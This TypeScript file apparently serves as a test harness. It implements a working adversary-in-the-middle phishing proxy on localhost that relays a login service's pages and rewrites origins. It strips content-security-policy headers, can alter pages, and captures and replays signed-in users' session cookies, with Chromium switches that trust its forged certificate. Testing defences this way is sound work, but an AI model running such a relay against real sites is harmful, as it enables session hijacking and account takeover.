/**
 * A phisher's site: another origin, with a certificate that browsers accept, whose pages are ours, relayed as they come. What its visitors
 * type and what we answer passes through its hands, and the cookies of whoever signs in stay in them.
 */
import { createHash, X509Certificate } from 'node:crypto';
import { type IncomingMessage, request, type ServerResponse } from 'node:http';
import { createServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { buffer } from 'node:stream/consumers';
import { CertificateWorkshop } from './certificates.ts';

export interface PhishingProxy {
  readonly origin: string;
  /** For Chromium: it finds the phisher's host on this machine, and takes its certificate for a good one. */
  readonly switches: readonly string[];
  /** What visitors of these pages are relayed to, from now on with nothing in the phisher's hands. */
  relay(issuer: string, change?: (page: string) => string): void;
  /** What the phisher sees at an address of ours, with the cookies that it has. */
  open(path: string): Promise<{ readonly status: number; readonly text: string }>;
  stop(): Promise<void>;
}

const host = 'belepes.phisher.example';

export async function startPhishingProxy(): Promise<PhishingProxy> {
  const workshop = new CertificateWorkshop();
  const { certificate, key } = workshop.serverPair(host);
  let relayed = { issuer: '', change: (page: string) => page };
  const cookies = new Map<string, string>();
  const server = createServer({ cert: certificate, key }, (asked, answer) =>
    relayRequest(asked, answer, relayed, origin(), cookies),
  );
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const origin = () => `https://${host}:${port}`;
  const publicKey = new X509Certificate(certificate).publicKey.export({ type: 'spki', format: 'der' });

  return {
    origin: origin(),
    switches: [
      `--host-resolver-rules=MAP ${host} 127.0.0.1`,
      `--ignore-certificate-errors-spki-list=${createHash('sha256').update(publicKey).digest('base64')}`,
    ],
    relay(issuer, change = (page) => page) {
      relayed = { issuer, change };
      cookies.clear();
    },
    async open(path) {
      const cookie = [...cookies].map(([name, value]) => `${name}=${value}`).join('; ');
      const answer = await fetch(`${relayed.issuer}${path}`, { headers: { cookie }, redirect: 'manual' });
      return { status: answer.status, text: await answer.text() };
    },
    async stop() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
      workshop.close();
    },
  };
}

interface Relayed {
  readonly issuer: string;
  readonly change: (page: string) => string;
}

/** Asked as if at our own origin, and answered as if at the phisher's. */
async function relayRequest(
  asked: IncomingMessage,
  answer: ServerResponse,
  { issuer, change }: Relayed,
  origin: string,
  cookies: Map<string, string>,
): Promise<void> {
  const toUs = (text: string): string => text.replaceAll(origin, issuer);
  const toVictim = (text: string): string => text.replaceAll(issuer, origin);
  const headers = Object.fromEntries(
    Object.entries(asked.headers).map(([name, value]) => [name, toUs(String(value))]),
  );
  const { 'accept-encoding': _, connection: __, ...kept } = headers;
  const ours = request(
    `${issuer}${asked.url}`,
    { method: asked.method, headers: { ...kept, host: new URL(issuer).host } },
    async (told) => {
      for (const cookie of told.headers['set-cookie'] ?? []) {
        const [, name = '', value = ''] = /^([^=]+)=([^;]*)/.exec(cookie) ?? [];
        cookies.set(name, value);
      }
      const isText = /html|javascript|json/.test(told.headers['content-type'] ?? '');
      const body = await buffer(told);
      const { 'content-length': ___, 'content-security-policy': ____, ...rest } = told.headers;
      const { location } = rest;
      answer.writeHead(told.statusCode ?? 502, {
        ...rest,
        ...(location !== undefined && { location: toVictim(location) }),
      });
      answer.end(isText ? change(toVictim(body.toString())) : body);
    },
  );
  ours.end(toUs((await buffer(asked)).toString()));
}
